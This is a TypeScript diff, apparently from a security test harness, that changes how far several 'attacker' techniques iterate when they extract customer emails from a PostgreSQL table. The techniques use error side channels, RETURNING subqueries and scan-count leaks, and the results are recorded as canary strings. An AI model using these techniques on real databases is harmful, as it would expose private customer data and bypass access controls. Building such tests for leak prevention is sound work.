@@ -45,7 +45,7 @@ const every = (first: number, step: number, last: number): readonly number[] => 
 
 const atBind = (ask: (id: number, part: number) => string): Technique => async (attacker) => {
   const client = await attacker.connect();
-  await spelled(attacker, client, every(1, 1, 260), (id, part) => client.ask([wire.parse('', ask(id, part)), wire.bind('', ''), wire.sync]));
+  await spelled(attacker, client, every(1, 1, attacker.customers), (id, part) => client.ask([wire.parse('', ask(id, part)), wire.bind('', ''), wire.sync]));
 };
 
 /** The same where the function is told by settings whom it is about. `make`: what the session needs; `later`: what comes between Parse and Bind. */
@@ -54,7 +54,7 @@ const atBindOf = (ask: string, make: string, later?: string): Technique => async
   await client.query(make);
   await client.ask([wire.parse('asked', ask), wire.sync]);
   if (later !== undefined) await client.query(later);
-  await spelled(attacker, client, every(1, 1, 260), async (id, part) => {
+  await spelled(attacker, client, every(1, 1, attacker.customers), async (id, part) => {
     await client.query(`SET app.n = ${id}; SET app.part = ${part}`);
     return client.ask([wire.bind('', 'asked'), wire.sync]);
   });
@@ -63,12 +63,12 @@ const atBindOf = (ask: string, make: string, later?: string): Technique => async
 /** Two statements give two customers, and a third by their errors. */
 const behindARow = (ask: (client: WireClient, sql: string) => Promise<unknown>): Technique => async (attacker) => {
   const client = await attacker.connect();
-  await spelled(attacker, client, every(3, 3, 360), (id, part) => ask(client, `SELECT email FROM crm.customers WHERE id IN (${id - (part === 1 ? 1 : 2)}, ${id}) AND fails_on(id, ${id}, email, ${part})`));
+  await spelled(attacker, client, every(3, 3, 1.5 * attacker.customers), (id, part) => ask(client, `SELECT email FROM crm.customers WHERE id IN (${id - (part === 1 ? 1 : 2)}, ${id}) AND fails_on(id, ${id}, email, ${part})`));
 };
 
 const atTheEnd = (last: readonly Buffer[]): Technique => async (attacker) => {
   const client = await attacker.connect();
-  await spelled(attacker, client, every(3, 3, 360), async (id, part) => {
+  await spelled(attacker, client, every(3, 3, 1.5 * attacker.customers), async (id, part) => {
     if (last.length > 1) await client.query('BEGIN');
     await client.ask([wire.run(`INSERT INTO put_off VALUES (${id}, ${part}) RETURNING (SELECT email FROM crm.customers WHERE id = ${id - (part === 1 ? 1 : 2)})`), wire.sync]);
     if (last.length > 1) await client.ask(last);
@@ -95,7 +95,7 @@ const countedAtBind: Technique = async (attacker) => {
     return digits.map((i) => scans.get(`${own}_${i}`) ?? 0);
   };
   let before = await look();
-  for (let id = 1; id <= 260; id++) {
+  for (let id = 1; id <= attacker.customers; id++) {
     await client.ask([wire.parse('', `SELECT pg_temp.f(${id})`), wire.bind('', ''), wire.sync]);
     const after = await look();
     attacker.decoded += `cnry-${String(id).padStart(6, '0')}-${after.map((scans, i) => (scans - (before[i] ?? 0)).toString(16).padStart(2, '0')).join('')} `;
